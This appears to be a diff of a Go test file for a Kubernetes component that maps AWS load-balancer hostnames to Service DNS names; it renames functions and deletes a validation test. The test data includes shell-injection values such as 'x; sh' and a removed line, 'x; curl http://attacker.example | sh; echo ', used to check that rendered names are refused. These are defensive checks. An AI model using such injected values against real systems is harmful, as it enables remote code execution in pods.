@@ -1,4 +1,4 @@
-package mutate
+package elb
 
 import (
 	"strings"
@@ -8,7 +8,7 @@ import (
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 )
 
-func TestServiceELBs(t *testing.T) {
+func TestClaim(t *testing.T) {
 	lb := func(typ corev1.ServiceType, ann map[string]string, hosts ...string) *corev1.Service {
 		s := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "orders", Annotations: ann}, Spec: corev1.ServiceSpec{Type: typ}}
 		for _, h := range hosts {
@@ -41,7 +41,7 @@ func TestServiceELBs(t *testing.T) {
 			"shop/" + strings.Repeat("a", 63), "x-1.us-east-1.elb.amazonaws.com"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
-			target, hosts := ServiceELBs(tt.svc)
+			target, hosts, _ := Claim(tt.svc)
 			if got := target.Namespace + "/" + target.Name; got != tt.target {
 				t.Errorf("target = %s, want %s", got, tt.target)
 			}
@@ -52,13 +52,13 @@ func TestServiceELBs(t *testing.T) {
 	}
 }
 
-func TestCheckServiceELBsNamesTheService(t *testing.T) {
+func TestClaimErrorNamesTheService(t *testing.T) {
 	svc := &corev1.Service{
 		ObjectMeta: metav1.ObjectMeta{Namespace: "other", Name: "evil", Annotations: map[string]string{AnnotationDDSDName: "x; sh"}},
 		Spec:       corev1.ServiceSpec{Type: corev1.ServiceTypeLoadBalancer},
 	}
 	svc.Status.LoadBalancer.Ingress = []corev1.LoadBalancerIngress{{Hostname: "internal-orders-999.us-east-1.elb.amazonaws.com"}}
-	_, hosts, err := CheckServiceELBs(svc)
+	_, hosts, err := Claim(svc)
 	if err == nil || len(hosts) > 0 {
 		t.Fatalf("hosts %v, err %v; want none and an error", hosts, err)
 	}
@@ -66,40 +66,5 @@ func TestCheckServiceELBsNamesTheService(t *testing.T) {
 		if !strings.Contains(err.Error(), want) {
 			t.Errorf("error %q does not name %s", err, want)
 		}
-	}
-}
-
-// staticResolver answers every hostname with one Service.
-type staticResolver ServiceRef
-
-func (r staticResolver) ResolveELB(string) (ServiceRef, bool) { return ServiceRef(r), true }
-
-// TestLookupELBRefusesNonDNSNames checks the rendered name is a DNS name
-// whatever a resolver returns: the last check before a name is written into
-// a pod's command.
-func TestLookupELBRefusesNonDNSNames(t *testing.T) {
-	const host = "internal-orders-999.us-east-1.elb.amazonaws.com"
-	for _, tt := range []struct {
-		name string
-		ref  ServiceRef
-		want string
-	}{
-		{"a valid name", ServiceRef{Namespace: "shop", Name: "orders"}, "orders.service.prod.ddsd"},
-		{"a shell command", ServiceRef{Namespace: "shop", Name: "x; curl http://attacker.example | sh; echo "}, ""},
-		{"a quote", ServiceRef{Namespace: "shop", Name: `a"b`}, ""},
-		{"a name rendering over 253 characters", ServiceRef{Namespace: "shop", Name: strings.Repeat("a.", 130) + "a"}, ""},
-	} {
-		t.Run(tt.name, func(t *testing.T) {
-			cfg := DefaultConfig()
-			cfg.DDSD.Env = "prod"
-			e, err := NewEngine(cfg, Options{ELBs: staticResolver(tt.ref)})
-			if err != nil {
-				t.Fatal(err)
-			}
-			got, ok := e.LookupELB(host, "shop")
-			if got != tt.want || ok != (tt.want != "") {
-				t.Errorf("LookupELB = %q, %v; want %q", got, ok, tt.want)
-			}
-		})
 	}
 }
